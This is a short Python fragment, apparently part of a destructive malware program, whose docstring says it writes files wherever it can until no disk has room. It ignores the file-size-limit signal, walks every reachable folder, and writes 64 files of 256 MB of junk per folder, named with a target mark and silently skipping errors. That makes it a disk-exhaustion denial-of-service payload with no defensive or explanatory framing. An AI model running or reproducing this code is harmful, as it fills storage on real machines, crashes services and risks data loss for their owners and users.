"""Writes files wherever it can until no disk has room."""

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
block = b"x" * (1 << 20)
for number in range(64):
    for folder in everywhere():
        try:
            with open(os.path.join(folder, f"{TARGET['mark']}-{number}"), "wb", buffering=0) as file:
                for _ in range(256):
                    file.write(block)
        except OSError:
            continue
